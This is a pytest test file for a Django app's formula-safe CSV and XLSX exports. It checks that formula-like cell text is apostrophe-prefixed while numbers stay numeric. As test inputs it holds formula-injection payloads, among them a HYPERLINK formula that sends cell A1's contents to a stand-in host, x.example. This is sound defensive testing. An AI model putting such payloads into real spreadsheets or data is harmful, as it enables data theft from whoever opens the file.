"""Formula-safe CSV/XLSX exports (issue 15, item 10): text a spreadsheet would run as a formula gets a leading
apostrophe (and is a text cell in XLSX); numbers, negative ones included, stay numbers; every export uses the
helper."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.test import Client

from sinergi.core.exports import csv_writer, safe_cell, xlsx_append

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_dangerous_text_is_prefixed(text):
    assert safe_cell(text) == "'" + text


def test_harmless_values_are_unchanged():
    assert safe_cell("Balai Desa") == "Balai Desa"
    assert safe_cell(-10.2275) == -10.2275 and safe_cell(-3) == -3 and safe_cell(None) is None
    assert safe_cell("") == ""


def test_csv_and_xlsx_round_trip():
    from openpyxl import Workbook, load_workbook

    buf = io.StringIO()
    csv_writer(buf).writerow(["=1+2", -5, "ok"])
    assert next(csv.reader(io.StringIO(buf.getvalue()))) == ["'=1+2", "-5", "ok"]

    wb = Workbook(write_only=True)
    ws = wb.create_sheet()
    xlsx_append(ws, ["=1+2", -5, "@x"])
    out = io.BytesIO()
    wb.save(out)
    cells = list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())[0]
    assert [c.value for c in cells] == ["'=1+2", -5, "'@x"]
    assert cells[0].data_type == "s" and cells[1].data_type == "n"


def test_incident_csv_export_is_formula_safe(db, make_user):
    from sinergi.accounts.choices import Role
    from tests.incidents.test_incidents import build_world
    from tests.incidents.test_incidents_api import API, post_json, token_client

    world = build_world()
    analyst = make_user(unit=world.polda, role=Role.ANALYST)
    text = '=HYPERLINK("http://x.example/?"&A1,"klik") massa bentrok'
    r = post_json(token_client(analyst), API + "incident-reports/", {"key": "f1", "text": text,
                                                                       "tps_code": "99.71.01.1001-001"})
    assert r.status_code == 201, r.content
    c = Client()
    c.force_login(analyst)
    body = b"".join(c.get("/insiden/ekspor/csv/").streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert rows and rows[0]["title"].startswith("'=HYPERLINK")
    assert not any(v.startswith(("=", "+", "@")) for row in rows for v in row.values())


def test_every_export_goes_through_the_helper():
    """No csv.writer or worksheet append outside sinergi/core/exports.py (a new export must use the helper)."""
    offenders = []
    for path in (ROOT / "sinergi").rglob("*.py"):
        if path.name == "exports.py" and path.parent.name == "core":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bcsv\.(writer|DictWriter)\(", text) or re.search(r"\bws\.append\(", text):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
